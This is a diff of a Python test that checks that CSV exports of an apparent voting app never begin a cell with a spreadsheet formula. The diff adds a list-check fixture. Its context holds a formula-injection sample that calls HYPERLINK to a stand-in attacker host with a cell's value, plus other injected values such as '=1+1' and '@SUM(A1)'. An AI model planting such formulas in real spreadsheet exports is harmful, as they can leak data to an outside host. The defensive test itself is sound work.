@@ -188,7 +188,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 def test_no_csv_download_starts_a_cell_with_a_formula(app, db, admin, client, requests_mock):
     """Names, labels and emails typed by admins or voters open as text in a spreadsheet."""
-    election_id = make_election(db, admin, state="closed", title=FORMULA,
+    election_id = make_election(db, admin, state="closed", title=FORMULA, cc_list_id="list-1",
                                 questions=[(FORMULA, ["=1+1", "+1", "-1", "@SUM(A1)"], 1)])
     voter_id = make_voters(db, election_id, count=1, secret_key=app.config["SECRET_KEY"])[0]
     db["voters"].update(voter_id, {"name": FORMULA, "email": "=1+1@example.org", "voter_code": "=V1",
@@ -199,6 +199,7 @@ def test_no_csv_download_starts_a_cell_with_a_formula(app, db, admin, client, re
     now = clock.iso()
     db["cc_removals"].insert({"election_id": election_id, "email": "=1+1@example.org",
                               "state": "not_in_list", "queued_at": now, "updated_at": now})
+    db["cc_list_checks"].insert({"election_id": election_id, "list_id": "list-1", "checked_at": now})
     db["cc_list_differences"].insert({"election_id": election_id, "kind": "missing", "name": FORMULA,
                                       "email": "=1+1@example.org", "updated_at": now})
     values = {"election_id": election_id, "slug": "x", "voter_id": voter_id, "voter_pk": voter_id,
